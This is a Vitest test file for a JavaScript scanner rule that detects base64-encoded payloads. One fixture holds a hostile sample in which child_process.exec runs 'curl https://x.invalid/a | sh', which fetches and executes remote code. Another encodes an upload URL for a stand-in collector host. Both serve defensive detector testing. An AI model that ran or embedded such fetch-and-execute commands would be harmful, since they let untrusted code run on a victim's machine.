import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-006 encoded-payload', () => {
  it('decodes base64 literals that hide URLs or code', async () => {
    const b64 = Buffer.from('https://collector.invalid/upload?x=1').toString('base64');
    const f = await ruleFindings('JS-006', `const u = '${b64}';`);
    expect(f).toHaveLength(1);
    expect(String(f[0]!.evidence?.decoded)).toContain('collector.invalid');
  });
  it('ignores random base64 (keys, images)', async () => {
    const random = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 73 + 11) % 256)).toString('base64');
    expect(await ruleFindings('JS-006', `const k = '${random}';`)).toHaveLength(0);
  });
});

describe('JS-006 encoded JSON data', () => {
  it('ignores a base64 JSON document even when it holds URLs (a trust root shipped in a bundle)', async () => {
    const json = JSON.stringify(
      {
        mediaType: 'application/vnd.dev.sigstore.trustedroot+json',
        tlogs: [{ baseUrl: 'https://rekor.example.invalid' }],
      },
      null,
      2,
    );
    const b64 = Buffer.from(json).toString('base64');
    expect(await ruleFindings('JS-006', `const root = JSON.parse(atob('${b64}'));`)).toHaveLength(0);
  });
  it('still reports base64 code that starts like an object but is not JSON', async () => {
    const code = "{ require('child_process').exec('curl https://x.invalid/a | sh') }";
    const b64 = Buffer.from(code).toString('base64');
    expect(await ruleFindings('JS-006', `const p = '${b64}';`)).toHaveLength(1);
  });
});
